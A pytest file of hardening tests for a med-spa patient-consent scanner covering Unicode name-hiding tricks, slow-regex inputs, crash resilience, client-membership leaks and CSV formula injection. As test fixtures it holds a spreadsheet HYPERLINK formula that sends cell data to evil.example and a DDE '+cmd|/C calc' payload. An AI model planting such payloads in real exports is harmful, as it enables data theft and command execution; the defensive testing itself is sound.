"""Hardening (issue 12), the scan path: each test reruns one attack of the security review as described
(real models, real registry in a real SQLite file, real `medspa-scan` processes) and would fail on the
code before the fix."""
from __future__ import annotations

import json
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import pytest

from scanner import Item, Registry, Store

ROOT = Path(__file__).resolve().parents[2]
HEADER = "patient_id,full_name,aliases,social_handles,purposes,channels,signed_on,expires_on,revoked_on,photo\n"
# authorized for testimonials and photos only: naming her in marketing needs name_in_marketing
CONSENTS = HEADER + "P7,Maribel Quintanilla,,,testimonial;before_after_photos,all,2024-01-01,,,\n"
NAMED_POST = "So proud of Maribel Quintanilla. She had Botox with us last week!"


def run(*args: str, home: Path, stdin: bytes | None = None, env: dict | None = None,
        timeout: float = 300) -> subprocess.CompletedProcess:
    full = {"MEDSPA_SCAN_HOME": str(home), "PATH": "/usr/bin:/bin", "HOME": str(home), **(env or {})}
    return subprocess.run([sys.executable, "-m", "scanner", *args], cwd=ROOT, env=full, input=stdin,
                          capture_output=True, timeout=timeout)


@pytest.fixture(scope="module")
def scanner(tmp_path_factory):
    from scanner import Scanner

    home = tmp_path_factory.mktemp("hardening-scan")
    store = Store(f"sqlite:///{home / 'scan.db'}")
    csv = home / "consents.csv"
    csv.write_text(CONSENTS + "P8,Sarah Jones,,,testimonial,all,2024-01-01,,,\n", encoding="utf-8")
    Registry.import_csv(store, csv, actor="tests")
    return Scanner(store=store, as_of=date(2025, 1, 1), with_images=False)


def _seconds(scanner, text: str) -> float:
    best = float("inf")
    for _ in range(2):  # the faster of two runs: less noise from other work on the machine
        t = time.perf_counter()
        scanner.scan(Item(id="len", kind="post", channel="facebook", text=text))
        best = min(best, time.perf_counter() - t)
    return best


def test_quadratic_names_linear_time(scanner):
    """`"Thanks Sarah Jones and Mike Brown! " * n` as one post: 3.5k chars took 0.9 s and 31.5k 59 s (x65 for
    x9 text). Ten times the text must now cost well under twenty times the time."""
    unit = "Thanks Sarah Jones and Mike Brown! "
    small, large = unit * 100, unit * 1000  # 3.5k and 35k characters
    _seconds(scanner, unit * 5)  # warm up
    t_small, t_large = _seconds(scanner, small), _seconds(scanner, large)
    assert t_large < 20 * t_small, f"{len(small)} chars {t_small:.2f} s, {len(large)} chars {t_large:.2f} s"


def test_time_budget_makes_a_long_item_incomplete_never_pass(tmp_path):
    """A 100k-character post with a budget it cannot meet: PHI900 (scan_incomplete), verdict review, exit 1;
    the same command on a short text still passes (the budget does not fire on ordinary items)."""
    text = "Thanks Sarah Jones and Mike Brown! " * 2800
    r = run("check", text, "--kind", "post", "--channel", "facebook", "--format", "json", home=tmp_path,
            env={"MEDSPA_SCAN_ITEM_BUDGET": "0.05"})
    assert r.returncode == 1, r.stderr[-2000:]
    out = json.loads(r.stdout)
    assert out["verdict"] == "review"
    cut = [f for f in out["findings"] if f["rule_id"] == "PHI900"]
    assert cut and cut[0]["category"] == "scan_incomplete" and "time budget" in cut[0]["message"]
    r = run("check", "Thanks Sarah Jones and Mike Brown!", "--kind", "post", "--format", "json", home=tmp_path)
    assert r.returncode == 0 and json.loads(r.stdout)["verdict"] == "pass"


def _white_jpeg(size: int = 64) -> bytes:
    import io

    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (size, size), "white").save(buf, format="JPEG")
    return buf.getvalue()


@pytest.fixture()
def registered(tmp_path) -> Path:
    """A data home whose registry authorizes Maribel Quintanilla for testimonial;before_after_photos only."""
    home = tmp_path / "home"
    home.mkdir()
    (tmp_path / "consents.csv").write_text(CONSENTS, encoding="utf-8")
    r = run("registry", "import", str(tmp_path / "consents.csv"), home=home)
    assert r.returncode == 0, r.stderr
    return home


def _use(out: dict) -> list[dict]:
    return [f for f in out["findings"] if f["category"] == "unauthorized_use"]


def test_any_image_never_makes_an_unauthorized_named_post_pass(registered, tmp_path):
    """The named post blocks (needs name_in_marketing); with a 64x64 white JPEG (no face) attached it passed
    with only AUT100, because the picture's purpose replaced the text's. It must still block."""
    (tmp_path / "small.jpg").write_bytes(_white_jpeg())
    args = ("check", "--kind", "post", "--channel", "facebook", NAMED_POST, "--format", "json")
    plain = run(*args, home=registered)
    with_image = run(*args, "--image", str(tmp_path / "small.jpg"), home=registered)
    for r in (plain, with_image):
        assert r.returncode == 1, r.stderr[-2000:]
        out = json.loads(r.stdout)
        assert out["verdict"] == "block"
        assert any(f["severity"] == "high" and "name_in_marketing" in f["message"] for f in _use(out)), out
    out = json.loads(with_image.stdout)
    assert not [f for f in _use(out) if f["severity"] == "info"]  # never "covered by a valid authorization"
    assert any("before_after_photos" in f["message"] for f in _use(out))  # the picture adds its use


def test_crawl_enclosure_never_makes_an_unauthorized_named_post_pass(registered, tmp_path):
    """The same post published in an RSS feed whose enclosure (the white JPEG) downloads: still block."""
    import yaml

    from tests.fixtures.crawl.server import FixtureServer, Resp

    with FixtureServer() as srv:
        srv.route("/feed.xml", Resp(200, "<rss><channel><item><guid>m1</guid><title>Proud</title>"
                                         f"<description>{NAMED_POST}</description>"
                                         "<enclosure url='{BASE}/cdn/small.jpg' type='image/jpeg'/></item>"
                                         "</channel></rss>", "application/rss+xml"))
        srv.route("/cdn/small.jpg", Resp(200, _white_jpeg(), "image/jpeg"))
        cfg = tmp_path / "sources.yaml"
        cfg.write_text(yaml.safe_dump({"sources": [{"name": "blog", "type": "rss", "url": f"{srv.base}/feed.xml"}]}))
        r = run("crawl", "--config", str(cfg), "--format", "jsonl", "--no-progress", home=registered)
        assert srv.hits["/cdn/small.jpg"] >= 1  # the picture did download
    assert r.returncode == 1, r.stderr[-2000:]
    (out,) = [json.loads(line) for line in r.stdout.decode().splitlines() if line.startswith("{")]
    assert out["verdict"] == "block", out
    assert any(f["severity"] == "high" and "name_in_marketing" in f["message"]  # the picture adds its use
               and "before_after_photos" in f["message"] for f in _use(out)), out


NAME = "Maribel Quintanilla"
HIDDEN_NAMES = {
    "zero-width space in each word": "Mari\u200bbel Quin\u200btanilla",
    "soft hyphens": "Mari\u00adbel Quin\u00adta\u00adnilla",
    "combining dot": "Ma\u0307ribel Quintanilla",
    "reversed inside U+202E": "\u202eallinatniuQ lebiraM\u202c",
}


@pytest.mark.parametrize("how", sorted(HIDDEN_NAMES))
def test_invisible_characters_never_hide_a_registry_name(scanner, how):
    """A registry name with U+200B inside each word, soft hyphens, a combining dot, or reversed inside U+202E
    (identical on screen) passed with no findings. It must block like the plain name, with offsets into the
    text as written."""
    hidden = HIDDEN_NAMES[how]
    plain = scanner.scan(Item(id="p", kind="post", channel="facebook", text=NAMED_POST))
    text = NAMED_POST.replace(NAME, hidden)
    res = scanner.scan(Item(id="h", kind="post", channel="facebook", text=text))
    assert plain.verdict == res.verdict == "block", res.findings
    rules = {f.rule_id for f in res.findings} - {"PHI901"}
    assert rules == {f.rule_id for f in plain.findings}
    named = [f for f in res.findings if f.registry_record and f.start is not None]
    assert named and all(text[f.start:f.end] == hidden.strip("\u202e\u202c") for f in named)
    if how != "combining dot":  # a visible mark; the invisible and reordering characters are reported
        assert any(f.rule_id == "PHI901" and f.category == "scan_incomplete" for f in res.findings)


REPLY = "Thanks Sarah, we loved having you in for your lip filler!"
LOOKALIKES = {
    "zero-width space": "Sa\u200brah", "zero-width joiner": "Sa\u200drah", "soft hyphen": "Sa\u00adrah",
    "Cyrillic a": "S\u0430rah", "full width": "\uff33\uff41\uff52\uff41\uff48",
    "mathematical bold": "\U0001d412\U0001d41a\U0001d42b\U0001d41a\U0001d421",
}


@pytest.mark.parametrize("how", sorted(LOOKALIKES))
def test_lookalike_characters_never_hide_the_reviewer_name(scanner, how):
    """In a reply, the reviewer's name vanished with ZWSP, ZWJ, a soft hyphen, a Cyrillic а, full-width or
    mathematical bold letters. The same findings as for the plain name must come back, on the name as written."""
    item = dict(kind="reply", channel="google", author="Sarah K.", in_reply_to="Loved my lip filler!")
    plain = scanner.scan(Item(id="p", text=REPLY, **item))
    text = REPLY.replace("Sarah", LOOKALIKES[how])
    res = scanner.scan(Item(id="h", text=text, **item))
    name_rules = {f.rule_id for f in plain.findings if f.evidence == "Sarah"}
    assert name_rules, plain.findings  # the plain reply names the reviewer
    got = {f.rule_id: text[f.start:f.end] for f in res.findings if f.rule_id in name_rules and f.start is not None}
    assert set(got) == name_rules and set(got.values()) == {LOOKALIKES[how]}
    assert res.verdict == plain.verdict == "block"


def test_hidden_characters_are_reported_from_the_command_line(registered):
    """The finding of its own (PHI901) through the real CLI: evidence spells the invisible character out."""
    r = run("check", NAMED_POST.replace(NAME, HIDDEN_NAMES["zero-width space in each word"]), "--kind", "post",
            "--channel", "facebook", "--format", "json", home=registered)
    assert r.returncode == 1, r.stderr[-2000:]
    out = json.loads(r.stdout)
    hidden = [f for f in out["findings"] if f["rule_id"] == "PHI901"]
    assert out["verdict"] == "block" and {f["evidence"] for f in hidden} == {"Mari<U+200B>bel", "Quin<U+200B>tanilla"}
    assert all("ZERO WIDTH SPACE" in f["message"] and f["severity"] == "medium" for f in hidden)


def _runs(home: Path) -> list[tuple[str, str]]:
    import sqlite3

    with sqlite3.connect(home / "medspa.db") as db:
        return list(db.execute("select source, status from runs order by id"))


def _stored(home: Path) -> dict[str, str]:
    """Stored items' text, read through the store (which decrypts it with the home's key)."""
    from sqlalchemy import select

    from scanner.core.store import StoredItem

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("MEDSPA_SCAN_HOME", str(home))
        with Store(f"sqlite:///{home / 'medspa.db'}").session() as s:
            return {row.item_id: row.text for row in s.execute(select(StoredItem)).scalars()}


BLOCKING = "Thank you for coming in, Maria! See you soon."


def test_lone_surrogate_in_a_batch_line_loses_nothing(tmp_path):
    """A lone surrogate ("x \\ud800 y" escaped in a JSONL line) aborted `batch` with an internal error: no line
    stored, no output, the run left `running`. Now that item is scanned (U+FFFD in its place), a line of
    bytes that are not UTF-8 is reported with its number, and everything else is scanned, stored and written."""
    home = tmp_path / "home"
    lines = [json.dumps({"id": "a", "kind": "reply", "channel": "google", "text": BLOCKING}).encode(),
             b'{"id": "b", "kind": "post", "channel": "instagram", "text": "x \\ud800 y, \\ud83d Botox day!"}',
             b'{"id": "c", "kind": "post", "text": "caf\xe9"}',
             json.dumps({"id": "d", "kind": "post", "channel": "instagram", "text": "Holiday hours: closed Dec 25."}).encode()]
    (tmp_path / "in.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    r = run("batch", str(tmp_path / "in.jsonl"), "-o", str(tmp_path / "out.jsonl"), "--no-progress", home=home)
    assert r.returncode == 2, r.stderr[-2000:]  # a bad line: exit 2, after scanning the rest
    assert b"in.jsonl:3: not valid UTF-8" in r.stderr and b"internal error" not in r.stderr
    out = {o["id"]: o for o in map(json.loads, (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines())}
    assert set(out) == {"a", "b", "d"} and out["a"]["verdict"] == "block"
    assert _stored(home)["b"] == "x \ufffd y, \ufffd Botox day!"
    assert _runs(home) == [("cli-batch", "done")]


def test_non_utf8_bytes_in_argv_do_not_abort(tmp_path):
    """Bytes that are not UTF-8 in the arguments (the text of `check`, the file name given to `batch`)."""
    home = tmp_path / "home"
    r = subprocess.run([sys.executable, "-m", "scanner", "check", b"Thanks Mar\xeda, so glad you came in!", "--kind",
                        "reply", "--format", "json"], cwd=ROOT, capture_output=True, timeout=300,
                       env={"MEDSPA_SCAN_HOME": str(home), "PATH": "/usr/bin:/bin", "HOME": str(home)})
    assert r.returncode in (0, 1) and b"internal error" not in r.stderr, r.stderr[-2000:]
    assert json.loads(r.stdout)["verdict"] in ("pass", "review", "block")
    name = tmp_path.as_posix().encode() + b"/items-\xff.jsonl"
    Path(name.decode("utf-8", "surrogateescape")).write_text(
        json.dumps({"id": "a", "kind": "reply", "text": BLOCKING}) + "\n", encoding="utf-8")
    r = subprocess.run([sys.executable, "-m", "scanner", "batch", name, "--format", "sarif", "--no-progress"],
                       cwd=ROOT, capture_output=True, timeout=300,
                       env={"MEDSPA_SCAN_HOME": str(home), "PATH": "/usr/bin:/bin", "HOME": str(home)})
    assert r.returncode == 1 and b"internal error" not in r.stderr, r.stderr[-2000:]
    assert json.loads(r.stdout)["runs"][0]["results"]
    assert [status for _, status in _runs(home)] == ["done", "done"]


def test_truncated_emoji_in_a_graph_post_does_not_stop_the_crawl(tmp_path):
    """A Graph API post whose message ends in half an emoji ("\\ud83d"): the crawl scans it and the others."""
    import yaml

    from tests.fixtures.crawl.server import TOKEN, FixtureServer, Resp, fixture

    home = tmp_path / "home"
    posts = ('{"data": ['
             '{"id": "104_1", "message": "Glow season is here \\ud83d", "created_time": "2026-11-20T17:00:00+0000",'
             ' "permalink_url": "https://www.facebook.com/lumamedspa/posts/1"},'
             '{"id": "104_2", "message": "So proud of Maria Lopez, she had Botox with us last week!",'
             ' "created_time": "2026-11-21T17:00:00+0000", "permalink_url": "https://www.facebook.com/lumamedspa/posts/2"}'
             "]}")
    with FixtureServer() as srv:
        srv.route("/graph/lumamedspa", fixture("facebook/page.json"))
        srv.route("/graph/lumamedspa/posts", Resp(200, posts))
        cfg = tmp_path / "sources.yaml"
        cfg.write_text(yaml.safe_dump({"sources": [{"name": "fb", "type": "facebook_page", "page_id": "lumamedspa",
                                                    "base_url": f"{srv.base}/graph", "token_env": "SPA_GRAPH_TOKEN"}]}))
        r = run("crawl", "--config", str(cfg), "--format", "jsonl", "--no-progress", home=home,
                env={"SPA_GRAPH_TOKEN": TOKEN})
    assert r.returncode == 1 and b"internal error" not in r.stderr, r.stderr[-2000:]
    out = {o["id"]: o for o in map(json.loads, r.stdout.decode().splitlines()) if o}
    assert set(out) == {"fb:104_1", "fb:104_2"} and out["fb:104_2"]["verdict"] != "pass"
    assert _stored(home)["fb:104_1"] == "Glow season is here \ufffd"
    assert [status for _, status in _runs(home)] == ["done"]


def test_kill_9_during_a_2000_item_batch_keeps_what_was_scanned(tmp_path):
    """`kill -9` during a 2,000-item batch lost every result (they were stored only at the end) and left no
    output. Now chunks are committed and written as they are scanned; the killed run is marked failed the
    next time the store opens, and what it stored before stays."""
    import os
    import signal
    import sqlite3

    home = tmp_path / "home"
    texts = ["Thank you for coming in, Maria! See you soon.", "Holiday hours: closed Dec 25.",
             "Botox special this week: $10 off per area!", "Thanks Jen, we loved doing your lip filler!"]
    (tmp_path / "in.jsonl").write_text("".join(
        json.dumps({"id": f"i{n}", "kind": "reply" if n % 2 == 0 else "post", "channel": "google",
                    "text": f"{texts[n % 4]} #{n}"}) + "\n" for n in range(2000)), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    env = {"MEDSPA_SCAN_HOME": str(home), "PATH": "/usr/bin:/bin", "HOME": str(home)}
    proc = subprocess.Popen([sys.executable, "-m", "scanner", "batch", str(tmp_path / "in.jsonl"), "-o", str(out),
                             "--workers", "1", "--no-progress"], cwd=ROOT, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def stored() -> int:
        try:
            with sqlite3.connect(home / "medspa.db", timeout=1) as db:
                return db.execute("select count(*) from items").fetchone()[0]
        except sqlite3.Error:
            return 0

    def written() -> bool:  # a chunk's lines are written (and flushed) right after it is committed
        return out.exists() and out.stat().st_size > 0

    deadline = time.monotonic() + 240
    while not (stored() and written()) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.2)
    os.kill(proc.pid, signal.SIGKILL)
    assert proc.wait(timeout=30) == -signal.SIGKILL  # killed mid-run, not finished
    kept = stored()
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()] if out.exists() else []
    assert 0 < kept < 2000 and lines, (kept, len(lines))
    with sqlite3.connect(home / "medspa.db") as db:
        ids = {row[0] for row in db.execute("select item_id from items")}
        assert db.execute("select status from runs").fetchall() == [("running",)]
    assert {o["id"] for o in lines} <= ids and any(o["verdict"] == "block" for o in lines)
    r = run("check", "Holiday hours: closed Dec 25.", home=home)  # the next command opens the store
    assert r.returncode == 0, r.stderr[-2000:]
    assert _runs(home) == [("cli-batch", "failed"), ("cli-check", "done")]
    assert stored() == kept + 1  # the killed run's items are still there


FORMULA_NAME = '=HYPERLINK("http://evil.example/"&A1,"x")'
FORMULA_ALIAS = "+cmd|' /C calc'!A0"
EVIL_CSV = HEADER + ('X1,"=HYPERLINK(""http://evil.example/""&A1,""x"")",' + FORMULA_ALIAS
                     + ",@ok_handle,testimonial,all,2024-01-01,,,\n")


def _formula_cells(text: str) -> list[str]:
    import csv
    import io

    return [c for row in csv.reader(io.StringIO(text)) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_registry_export_neutralizes_formulas_and_still_imports(tmp_path, monkeypatch):
    """Registry names like =HYPERLINK(...) and +cmd|'/C calc'!A0 were exported raw (a spreadsheet runs them).
    Export now prefixes such cells with an apostrophe; importing that export gives the same registry."""
    home = tmp_path / "home"
    (tmp_path / "evil.csv").write_text(EVIL_CSV, encoding="utf-8")
    assert run("registry", "import", str(tmp_path / "evil.csv"), home=home).returncode == 0
    r = run("registry", "export", "-o", str(tmp_path / "export.csv"), home=home)
    assert r.returncode == 0, r.stderr[-2000:]
    exported = (tmp_path / "export.csv").read_text(encoding="utf-8")
    assert not _formula_cells(exported) and "'" + FORMULA_ALIAS in exported and "'@ok_handle" in exported
    other = tmp_path / "other"
    assert run("registry", "import", str(tmp_path / "export.csv"), home=other).returncode == 0
    again = run("registry", "export", home=other)
    assert again.stdout.decode() == exported  # the same records: the apostrophes came off on import
    from scanner import Registry

    monkeypatch.setenv("MEDSPA_SCAN_HOME", str(other))  # the registry is read with that home's key
    recs = Registry.all_records(Store(f"sqlite:///{other / 'medspa.db'}"))
    assert len(recs) == 1 and recs[0].full_name == FORMULA_NAME and FORMULA_ALIAS in recs[0].aliases


def test_batch_csv_neutralizes_formulas(tmp_path):
    """`batch --format csv` wrote ids, evidence and messages starting with = + - @ raw."""
    home = tmp_path / "home"
    (tmp_path / "in.jsonl").write_text(json.dumps({
        "id": "=1+1", "kind": "post", "channel": "instagram",
        "text": "@jen.glows loved her lip filler with us yesterday! -Maria"}) + "\n", encoding="utf-8")
    r = run("batch", str(tmp_path / "in.jsonl"), "--format", "csv", home=home)
    assert r.returncode == 1, r.stderr[-2000:]
    out = r.stdout.decode()
    assert "'=1+1" in out and "'@jen.glows" in out and not _formula_cells(out)


def test_dashboard_registry_csv_export_neutralizes_formulas(tmp_path, monkeypatch):
    """The dashboard's registry download (a real page run by streamlit's AppTest, a real account and store)."""
    from streamlit.runtime import memory_media_file_storage as media
    from streamlit.testing.v1 import AppTest

    from scanner.review import accounts

    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("MEDSPA_SCAN_HOME", str(home))
    (tmp_path / "evil.csv").write_text(EVIL_CSV, encoding="utf-8")
    store = Store()
    Registry.import_csv(store, tmp_path / "evil.csv", actor="tests")
    accounts.add_user(store, "officer", "a-long-password-1", "compliance")
    downloads: list[bytes] = []
    real = media.MemoryMediaFileStorage.load_and_get_id

    def spy(self, path_or_data, mimetype, kind, filename=None):
        if mimetype == "text/csv":
            downloads.append(path_or_data)
        return real(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(media.MemoryMediaFileStorage, "load_and_get_id", spy)
    at = AppTest.from_file(str(ROOT / "dashboard" / "views" / "registry.py"), default_timeout=120)
    at.session_state["user"], at.session_state["role"], at.session_state["last_seen"] = "officer", "compliance", time.time()
    at.run()
    assert not at.exception and [b.proto.label for b in at.get("download_button")] == ["Export CSV"]
    (data,) = downloads
    text = data.decode("utf-8")
    assert "'=HYPERLINK" in text and not _formula_cells(text)


def _public_view(answer: dict) -> list[tuple]:
    """What tells findings apart, without the name itself (evidence and offsets differ with the name)."""
    return sorted((f["rule_id"], f["category"], f["severity"], f["message"], json.dumps(f.get("detail"), sort_keys=True),
                   f.get("registry_record")) for f in answer["findings"])


def test_api_answer_never_tells_who_is_a_client(scanner):
    """Anyone with an API key learned who is a client: a post naming a registered patient returned her patient
    id, signing date and `missing_purpose`. Now the answer says "a client named here lacks authorization for
    this use", word for word the same as for a name that is not in the registry; the CLI keeps the detail."""
    import httpx

    from scanner import create_app
    from scanner.api import keys as apikeys
    from scanner.api.app import Settings
    from tests.api.test_api import live_server

    store = scanner.registry.store
    key = apikeys.create(store, "gate")
    stranger = NAMED_POST.replace(NAME, "Rosalind Featherstone")
    with live_server(create_app(store=store, scanner=scanner, settings=Settings())) as base, \
            httpx.Client(base_url=base, headers={"Authorization": f"Bearer {key}"}, timeout=120) as c:
        known = c.post("/v1/check", json={"kind": "post", "channel": "facebook", "text": NAMED_POST})
        unknown = c.post("/v1/check", json={"kind": "post", "channel": "facebook", "text": stranger})
        both = c.post("/v1/batch", json={"items": [{"kind": "post", "channel": "facebook", "text": t}
                                                   for t in (NAMED_POST, stranger)]})
    assert known.status_code == unknown.status_code == both.status_code == 200
    known_d, unknown_d = known.json(), unknown.json()
    assert known_d["verdict"] == unknown_d["verdict"] == "block"
    assert _public_view(known_d) == _public_view(unknown_d)
    assert any(f["message"].startswith("A client named here lacks authorization for this use")
               for f in known_d["findings"])
    batch = both.json()["results"]
    assert _public_view(batch[0]) == _public_view(batch[1]) == _public_view(known_d)
    for body in (known.text, both.text):
        assert "P7" not in body and "2024-01-01" not in body and "missing_purpose" not in body
        assert "registry_record" not in body and "not_authorized" not in body
    local = scanner.scan(Item(id="cli", kind="post", channel="facebook", text=NAMED_POST))  # what the CLI prints
    assert any(f.registry_record == "P7/2024-01-01" for f in local.findings)


def test_marketing_precheck_never_tells_who_is_a_client(registered, monkeypatch):
    """A marketing log-in's pre-check (the real page under streamlit's AppTest, the real scanner and registry)
    shows the same generic finding; a compliance officer still sees the registry record."""
    from streamlit.testing.v1 import AppTest

    from scanner.review import accounts

    monkeypatch.setenv("MEDSPA_SCAN_HOME", str(registered))
    store = Store()
    accounts.add_user(store, "marketer", "a-long-password-1", "marketing")
    accounts.add_user(store, "officer", "a-long-password-2", "compliance")
    seen = {}
    for user, role in (("marketer", "marketing"), ("officer", "compliance")):
        at = AppTest.from_file(str(ROOT / "dashboard" / "views" / "precheck.py"), default_timeout=300)
        at.session_state["user"], at.session_state["role"], at.session_state["last_seen"] = user, role, time.time()
        at.run()
        at.text_area(key="draft_text").input(NAMED_POST)
        at.selectbox(key="draft_kind").select("post")
        at.selectbox(key="draft_channel").select("facebook")
        at.form_submit_button[0].click().run()
        assert not at.exception, at.exception
        seen[role] = at.session_state["last_check"]["result"]
    shown = json.dumps(seen["marketing"])
    assert seen["marketing"]["verdict"] == "block" and "P7" not in shown and "2024-01-01" not in shown
    assert "lacks authorization for this use" in shown
    assert any(f.get("registry_record") == "P7/2024-01-01" for f in seen["compliance"]["findings"])


def test_422_errors_never_echo_the_clients_key_names(scanner):
    """422 answers named the client's unknown JSON keys, and a key can be PHI ("Maribel Quintanilla": ...).
    They now name known fields and positions only."""
    import httpx

    from scanner import create_app
    from scanner.api import keys as apikeys
    from scanner.api.app import Settings
    from tests.api.test_api import live_server

    key = apikeys.create(scanner.registry.store, "keys-422")
    item = {"kind": "post", "channel": "facebook", "text": "Holiday hours"}
    bodies = [
        ("/v1/check", {**item, NAME: "had Botox"}),
        ("/v1/check", {**item, NAME: "x \ud800 y"}),
        ("/v1/check", {"kind": "post", "channel": "facebook", "text": "hi", "images": [], NAME: {"nested": 1}}),
        ("/v1/batch", {"items": [item], NAME: 1}),
        ("/v1/batch", {"items": [{**item, NAME: True}, item]}),
    ]
    with live_server(create_app(store=scanner.registry.store, scanner=scanner, settings=Settings())) as base, \
            httpx.Client(base_url=base, headers={"Authorization": f"Bearer {key}"}, timeout=120) as c:
        answers = [c.post(path, content=json.dumps(body).encode(), headers={"Content-Type": "application/json"})
                   for path, body in bodies]
    for (path, _), r in zip(bodies, answers, strict=True):
        assert r.status_code == (200 if path == "/v1/batch" and r.json().get("results") else 422), r.text
        assert "Maribel" not in r.text and "Quintanilla" not in r.text, r.text
        assert "key" in r.text  # the problem is still located: "unexpected field (key 4 of the object)"
    batch = answers[-1].json()["results"]
    assert batch[0]["error"] == "invalid item" and batch[1]["verdict"] == "pass"


@pytest.mark.parametrize("unit", ["a.", "a@", "ab-", "x" * 70 + "."])
def test_web_address_finder_is_linear_on_runs_without_spaces(unit):
    """Treatment words inside web addresses are dropped by a pattern run over every text with a dot; an unbounded
    '\\S+@' in it was quadratic on a long run without spaces (texts may hold 100,000 characters)."""
    from scanner.text.analysis import URL_RE

    def seconds(text: str) -> float:
        best = float("inf")
        for _ in range(2):
            t = time.perf_counter()
            list(URL_RE.finditer(text))
            best = min(best, time.perf_counter() - t)
        return best

    small, large = unit * (2_000 // len(unit)), unit * (20_000 // len(unit))
    t_small, t_large = seconds(small), seconds(large)
    assert t_large < 20 * t_small + 0.01, f"{len(small)} chars {t_small:.4f} s, {len(large)} chars {t_large:.4f} s"
